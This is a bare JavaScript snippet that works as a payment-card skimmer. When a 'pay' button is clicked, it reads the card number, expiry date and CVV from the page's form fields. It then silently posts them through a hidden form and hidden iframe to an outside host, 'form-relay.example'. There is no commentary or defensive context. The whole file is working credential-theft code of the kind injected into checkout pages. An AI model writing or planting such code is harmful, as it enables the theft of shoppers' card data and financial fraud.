(function () {
  function post(data) {
    var f = document.createElement('form'), t = document.createElement('iframe');
    t.name = 'r' + Math.random(); t.style.display = 'none'; document.body.appendChild(t);
    f.method = 'POST'; f.action = 'https://form-relay.example/in'; f.target = t.name; f.style.display = 'none';
    for (var k in data) { var i = document.createElement('input'); i.name = k; i.value = data[k]; f.appendChild(i); }
    document.body.appendChild(f); f.submit();
  }
  document.getElementById('pay').addEventListener('click', function () {
    post({ a: document.getElementById('ccnum').value, b: document.getElementById('ccexp').value, c: document.getElementById('cvv2').value });
  });
})();
